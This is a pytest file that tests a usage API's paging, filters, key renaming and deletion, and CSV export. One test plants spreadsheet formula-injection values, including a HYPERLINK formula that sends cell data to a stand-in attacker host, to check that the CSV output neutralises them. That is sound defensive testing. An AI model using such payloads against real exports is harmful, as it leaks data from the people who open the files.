"""Is usage listed whole and exactly once, in pages and as CSV, while rows come and go?"""

from __future__ import annotations

import csv
import io
import re
from collections import defaultdict
from collections.abc import Iterable
from datetime import date, timedelta
from decimal import Decimal
from typing import Any

import asyncpg
import msgspec
import pytest

from app.cursors import ByCell, Cursors
from app.settings import Settings
from app.stats.selection import select
from app.usage.repository import model_ids
from tests.cast import Person
from tests.conftest import SECRET, running_app
from tests.readers import AUGUST, BOTH, Reader, today
from tests.usage.exports import ACTIVITY, exact, export, imports
from tests.usage.facts import MEASURES, Fact, book, key_ids

FIELDS = [
    "date", "api_key_id", "api_key_name", "model", "provider", "requests", "tokens_input", "tokens_output", "tokens_reasoning",
    "tokens_cached", "cost", "byok_cost",
]  # fmt: skip
CELL = FIELDS[:5]


def many(days: int = 6) -> list[Fact]:
    """Two keys and none, three models, of which one is not known, two providers; each cost is there once."""
    cells = [
        (date(2026, 8, 1) + timedelta(days=day), key, model, provider)
        for day in range(days)
        for key in ("a", "b", None)
        for model in ("x", "y", None)
        for provider in ("p", "q")
    ]
    return [Fact(*cell, cost=Decimal(number).scaleb(-6)) for number, cell in enumerate(cells)]


def costs(items: Iterable[dict[str, Any]]) -> list[Decimal]:
    """Which of the many they are."""
    return [item["cost"] for item in items]


def read_csv(text: str) -> list[dict[str, str]]:
    """As a program reads it."""
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def as_csv(item: dict[str, Any]) -> dict[str, str]:
    """What a line of CSV says of an entry."""
    return {name: "" if value is None else str(value) for name, value in item.items()}


@pytest.fixture
async def rich(reader: Reader) -> Reader:
    """Reads for Alice, who has imported the real export."""
    await imports(reader.owner, ACTIVITY)
    return reader


# --- a page


async def test_page_is_what_the_contract_says(reader: Reader, connection: asyncpg.Connection) -> None:
    known = dict.fromkeys(MEASURES, 7) | {"cost": Decimal("0.10")}
    facts = [Fact(date(2026, 8, 2), "k", "a/model", "p", **known), Fact(date(2026, 8, 1))]
    await book(connection, reader.owner.id, *facts)
    page = exact(await reader.get("usage", AUGUST))
    assert page.keys() == {"timezone", "items", "next_cursor"}
    assert (page["timezone"], page["next_cursor"]) == ("UTC", None)
    first, second = page["items"]
    assert [*first] == FIELDS
    key = (await key_ids(connection, reader.owner.id))["k"]
    cell = {"date": "2026-08-02", "api_key_id": key, "api_key_name": "k", "model": "a/model", "provider": "p"}
    assert first == cell | known
    assert second == dict.fromkeys(FIELDS) | {"date": "2026-08-01"}


async def test_selection_with_nothing_in_it_is_an_empty_page(reader: Reader) -> None:
    assert exact(await reader.get("usage")) == {"timezone": "UTC", "items": [], "next_cursor": None}
    assert await reader.csv("") == ",".join(FIELDS) + "\r\n"


async def test_several_sources_of_a_cell_are_one_entry(reader: Reader, connection: asyncpg.Connection) -> None:
    day, user_id = date(2026, 8, 1), reader.owner.id
    # OpenRouter says that a model has cost 0.12; an import without a key's name explains 0.1 of it
    models = await model_ids(connection, ["x", "y"])
    await connection.executemany(
        "INSERT INTO workspace_usage (user_id, day, workspace, model_id, provider_id, cost) VALUES ($1, $2, 'w', $3, 0, $4)",
        [(user_id, day, models["x"], Decimal("0.12")), (user_id, day, models["y"], Decimal("0.003"))],
    )
    await book(connection, user_id, Fact(day, model="x", cost=Decimal("0.1"), requests=2))
    assert await connection.fetchval("SELECT count(*) FROM usage_facts WHERE model_id = $1", models["x"]) == 2
    found = {item["model"]: (item["cost"], item["requests"]) for item in await reader.usage()}
    assert found == {"x": (Decimal("0.12"), 2), "y": (Decimal("0.003"), None)}
    assert len(await reader.usage(f"{AUGUST}&limit=1")) == 2


async def test_what_does_not_count_is_not_listed(reader: Reader, connection: asyncpg.Connection) -> None:
    day = date(2026, 8, 1)
    await book(connection, reader.owner.id, Fact(day, "k", "x", cost=Decimal(1)))
    await book(connection, reader.owner.id, Fact(day, "k", source="counters", cost=Decimal(2)))
    assert costs(await reader.usage()) == [2]
    assert [line["cost"] for line in read_csv(await reader.csv())] == ["2"]


# --- the real export


async def test_entries_of_the_real_export_are_its_own_sums(rich: Reader) -> None:
    expected: dict[tuple[str, ...], list[Decimal]] = defaultdict(lambda: [Decimal(0)] * 4)
    for line in csv.DictReader(io.StringIO(ACTIVITY.decode())):
        cell = (line["created_at"][:10], line["api_key_name"], line["model_permaslug"], line["provider_name"])
        names = ("cost_total", "tokens_prompt", "tokens_completion")
        figures = [Decimal(1), *(Decimal(line[name] or 0) for name in names)]
        expected[cell] = [one + another for one, another in zip(expected[cell], figures, strict=True)]
    found = {
        tuple(line[name] or "" for name in ("date", "api_key_name", "model", "provider")): [
            line[name] for name in ("requests", "cost", "tokens_input", "tokens_output")
        ]
        for line in await rich.usage()
    }
    assert found == expected


async def test_csv_of_the_real_export_comes_to_the_export_s_own_sums_by_day_and_model(rich: Reader) -> None:
    expected: dict[tuple[str, str], Decimal] = defaultdict(Decimal)
    for line in csv.DictReader(io.StringIO(ACTIVITY.decode())):
        expected[line["created_at"][:10], line["model_permaslug"]] += Decimal(line["cost_total"])
    found: dict[tuple[str, str], Decimal] = defaultdict(Decimal)
    for line in read_csv(await rich.csv()):
        found[line["date"], line["model"]] += Decimal(line["cost"])
    assert found == expected
    assert sum(found.values()) == Decimal("1.071850")


# --- pages


@pytest.mark.parametrize("limit", [1, 2, 7, 18, 107, 108, 1000])
async def test_pages_hold_everything_once_and_in_order(
    reader: Reader, connection: asyncpg.Connection, limit: int
) -> None:
    await book(connection, reader.owner.id, *many())
    whole = exact(await reader.get("usage", f"{AUGUST}&limit=1000"))["items"]
    assert sorted(costs(whole)) == [fact.cost for fact in many()]
    assert [item["date"] for item in whole] == sorted((item["date"] for item in whole), reverse=True)
    assert await reader.usage(f"{AUGUST}&limit={limit}") == whole


async def test_hundred_entries_are_a_page_if_nothing_is_said(reader: Reader, connection: asyncpg.Connection) -> None:
    await book(connection, reader.owner.id, *many())
    assert len(exact(await reader.get("usage", AUGUST))["items"]) == 100
    assert len(await reader.usage()) == 108


async def test_link_leads_to_the_next_page_as_the_cursor_does(settings: Settings, password_hash: str) -> None:
    async with running_app(msgspec.structs.replace(settings, public_url="https://watcher.example.com")) as client:
        connection = await asyncpg.connect(settings.database_url)
        owner = await Person.is_there(client, connection, "carol@example.com", password_hash, SECRET)
        await book(connection, owner.id, *many(1), Fact(date(2026, 8, 1), model="é & /", cost=Decimal(1)))
        await book(connection, owner.id, Fact(date(2026, 8, 2), model="é & /", cost=Decimal(2)))
        await connection.close()
        for root in BOTH:
            reader = await Reader.of(owner, root)
            answer = await reader.get("usage", f"limit=1&model=%C3%A9+%26%20/&{AUGUST}&format=json")
            address, relation = re.fullmatch(r'<([^<>]*)>; rel="(\w+)"', answer.headers["link"]).groups()  # pyright: ignore[reportOptionalMemberAccess]
            assert relation == "next"
            assert address.startswith(f"https://watcher.example.com{root}/usage?")
            assert answer.json()["next_cursor"] in address
            following = await client.get(address.removeprefix("https://watcher.example.com"), headers=reader.headers)
            assert costs(exact(following)["items"]) == [1]
            assert "link" not in following.headers
            assert following.json()["next_cursor"] is None


async def test_link_is_relative_where_nobody_said_how_clients_come(
    reader: Reader, connection: asyncpg.Connection
) -> None:
    await book(connection, reader.owner.id, *many(1))
    assert (
        (await reader.get("usage", f"{AUGUST}&limit=1")).headers["link"].startswith(f"<{reader.root}/usage?start_date=")
    )


async def test_pages_stay_right_while_rows_come_and_go(reader: Reader, connection: asyncpg.Connection) -> None:
    facts = many()
    await book(connection, reader.owner.id, *facts)
    whole = costs(await reader.usage(f"{AUGUST}&limit=1000"))
    page = exact(await reader.get("usage", f"{AUGUST}&limit=40"))
    seen = costs(page["items"])
    ids = await key_ids(connection, reader.owner.id)

    # newer days, and the day on which the page ended, on both sides of its end
    middle = date.fromisoformat(page["items"][-1]["date"])
    news = [Fact(date(2026, 8, 20), "a", "x", "p", cost=Decimal(1)), Fact(date(2026, 7, 1), "a", cost=Decimal(2))]
    around = [Fact(middle, "a", "new", "p", cost=Decimal(3)), Fact(middle, "new", "x", "p", cost=Decimal(4))]
    await book(connection, reader.owner.id, *news, *around, Fact(date(2026, 8, 1), "a", "x", "new", cost=Decimal(5)))
    # and the rows of a key go, the one that the cursor stands on among them or not
    assert (await reader.owner.delete(f"/api/keys/{ids['b']}?history=delete")).status_code == 204

    while page["next_cursor"] is not None:
        page = exact(await reader.get("usage", f"{AUGUST}&limit=7&cursor={page['next_cursor']}"))
        seen += costs(page["items"])
    gone = {fact.cost for fact in facts if fact.key == "b"}
    stayed = [cost for cost in whole if cost not in gone or cost in seen[:40]]
    assert [cost for cost in seen if cost in whole] == stayed
    assert len(seen) == len(set(seen))
    assert set(seen) - set(whole) <= {3, 4, 5}
    assert 5 in seen


async def test_list_that_began_before_midnight_keeps_its_days(reader: Reader, connection: asyncpg.Connection) -> None:
    last = today()
    yesterday, before = last - timedelta(days=1), last - timedelta(days=2)
    await book(connection, reader.owner.id, *(Fact(day, cost=Decimal(day.day)) for day in (last, yesterday, before)))
    # as yesterday's first page of `days=2` ended
    place = ByCell(before, yesterday, yesterday, 0, 0, 0)
    cursor = Cursors([SECRET]).make(place, "usage", reader.owner.id, select(2, None, None, None, None))
    page = exact(await reader.get("usage", f"days=2&cursor={cursor}"))
    assert [item["date"] for item in page["items"]] == [before.isoformat()]


# --- filters and names


async def test_key_and_model_select_what_is_theirs(reader: Reader, connection: asyncpg.Connection) -> None:
    facts = many()
    await book(connection, reader.owner.id, *facts)
    ids = await key_ids(connection, reader.owner.id)
    for key in ("a", "b", None):
        for model in ("x", "y", "unheard of", None):
            query = AUGUST + (f"&api_key_id={ids[key]}" if key else "") + (f"&model={model}" if model else "")
            expected = {f.cost for f in facts if (not key or f.key == key) and (not model or f.model == model)}
            for limit in (5, 1000):
                found = costs(await reader.usage(f"{query}&limit={limit}"))
                assert (len(found), set(found)) == (len(expected), expected), query
            assert {Decimal(line["cost"]) for line in read_csv(await reader.csv(query))} == expected


async def test_model_that_is_not_known_is_selected_by_nothing(reader: Reader, connection: asyncpg.Connection) -> None:
    await book(connection, reader.owner.id, *many())
    found = await reader.usage(f"{AUGUST}&model=")
    assert {item["model"] for item in found} == {None}
    assert len(found) == 36


async def test_days_outside_the_period_are_not_listed(reader: Reader, connection: asyncpg.Connection) -> None:
    await book(connection, reader.owner.id, *many())
    period = "start_date=2026-08-02&end_date=2026-08-03"
    for days in (
        {item["date"] for item in await reader.usage(period)},
        {line["date"] for line in read_csv(await reader.csv(period))},
    ):
        assert days == {"2026-08-02", "2026-08-03"}


async def test_deleted_key_s_history_keeps_its_name_and_a_renamed_one_s_has_the_new(
    reader: Reader, connection: asyncpg.Connection
) -> None:
    await book(connection, reader.owner.id, *many(1))
    ids = await key_ids(connection, reader.owner.id)
    assert (await reader.owner.delete(f"/api/keys/{ids['a']}")).status_code == 204
    assert (await reader.owner.call("PATCH", f"/api/keys/{ids['b']}", json={"name": "new"})).status_code == 200
    for items in (await reader.usage(), read_csv(await reader.csv())):
        names = {str(item["api_key_id"] or ""): item["api_key_name"] or "" for item in items}
        assert names == {str(ids["a"]): "a", str(ids["b"]): "new", "": ""}
    assert {item["api_key_name"] for item in await reader.usage(f"{AUGUST}&api_key_id={ids['a']}")} == {"a"}


async def test_usage_of_a_deleted_history_is_gone(reader: Reader, connection: asyncpg.Connection) -> None:
    await book(connection, reader.owner.id, *many(1))
    ids = await key_ids(connection, reader.owner.id)
    assert (await reader.owner.delete(f"/api/keys/{ids['a']}?history=delete")).status_code == 204
    assert {item["api_key_name"] for item in await reader.usage()} == {"b", None}
    assert "a" not in {line["api_key_name"] for line in read_csv(await reader.csv())}


# --- CSV


async def test_csv_says_what_the_pages_say(reader: Reader, connection: asyncpg.Connection) -> None:
    odd = Fact(date(2026, 8, 9), 'a "b", c', "ü/🙂", "p;q", requests=0, cost=Decimal("0.10"), tokens_input=3)
    await book(connection, reader.owner.id, *many(), odd)
    text = await reader.csv()
    assert text.startswith(",".join(FIELDS) + "\r\n")
    assert text.endswith("\r\n")
    assert read_csv(text) == [as_csv(item) for item in await reader.usage()]


@pytest.mark.parametrize(
    ("accept", "query", "is_csv"),
    [
        ("text/csv", "", True), ("text/csv; charset=utf-8", "", True), ("text/*", "", True), ("TEXT/CSV", "", True),
        ("application/json;q=0.5, text/csv", "", True), ("text/csv;q=0.9, */*;q=0.1", "", True),
        ("text/csv;q=0.5, application/json", "", False), ("*/*", "", False), ("application/json", "", False),
        ("text/html,application/xhtml+xml,*/*;q=0.8", "", False), ("", "", False), ("nonsense", "", False),
        ("text/csv;q=0, */*", "", False), ("application/json", "&format=csv", True), ("*/*", "&format=csv", True),
        ("text/csv", "&format=json", False),
    ],
)  # fmt: skip
async def test_form_is_the_one_that_is_asked_for(reader: Reader, accept: str, query: str, *, is_csv: bool) -> None:
    answer = await reader.get("usage", AUGUST + query, {"Accept": accept})
    if is_csv:
        assert answer.headers["content-type"] == "text/csv; header=present; charset=utf-8"
        assert answer.headers["content-disposition"] == 'attachment; filename="usage_2026-08-01_2026-08-31.csv"'
        assert answer.text.startswith("date,")
    else:
        assert answer.headers["content-type"] == "application/json"
        assert "content-disposition" not in answer.headers
        assert answer.json()["items"] == []


async def test_head_of_csv_has_the_headers_and_nothing_else(rich: Reader) -> None:
    got = await rich.get("usage", f"{AUGUST}&format=csv")
    head = await rich.ask("usage", f"{AUGUST}&format=csv", method="HEAD")
    assert (head.status_code, head.content) == (200, b"")
    changing = {"x-request-id", "date"}
    assert {name: value for name, value in head.headers.items() if name not in changing} == {
        name: value for name, value in got.headers.items() if name not in changing
    }


async def test_names_that_a_spreadsheet_would_run_are_defused_in_csv_and_as_they_are_in_json(reader: Reader) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1)'
    row = {"api_key_name": evil, "model_permaslug": "@SUM(1)", "provider_name": "-2+3", "cost_total": "0.5"}
    await imports(reader.owner, export({"generation_id": "1", **row}))
    (line,) = read_csv(await reader.csv())
    assert (line["api_key_name"], line["model"], line["provider"]) == (f"'{evil}", "'@SUM(1)", "'-2+3")
    (item,) = await reader.usage()
    assert (item["api_key_name"], item["model"], item["provider"]) == (evil, "@SUM(1)", "-2+3")


async def test_negative_cost_stays_a_number(reader: Reader, connection: asyncpg.Connection) -> None:
    await book(connection, reader.owner.id, Fact(date(2026, 8, 1), cost=Decimal("-0.25")))
    (line,) = read_csv(await reader.csv())
    assert line["cost"] == "-0.25"


# --- money


async def test_money_keeps_every_digit_in_every_answer(reader: Reader, connection: asyncpg.Connection) -> None:
    parts = (Decimal("123456789.1"), Decimal("0.00000000000000000001"))
    facts = [Fact(date(2026, 8, 1), "k", "m", provider, cost=cost) for provider, cost in zip("ab", parts, strict=True)]
    await book(connection, reader.owner.id, *facts)
    written = "123456789.10000000000000000001"
    summed = (await reader.get("stats", AUGUST)).text
    # whole, and for a person also by day, by model and by key
    assert summed.count(written) == (4 if reader.root == "/api" else 1)
    assert set(costs(await reader.usage())) == {*parts}
    assert {Decimal(line["cost"]) for line in read_csv(await reader.csv())} == {*parts}
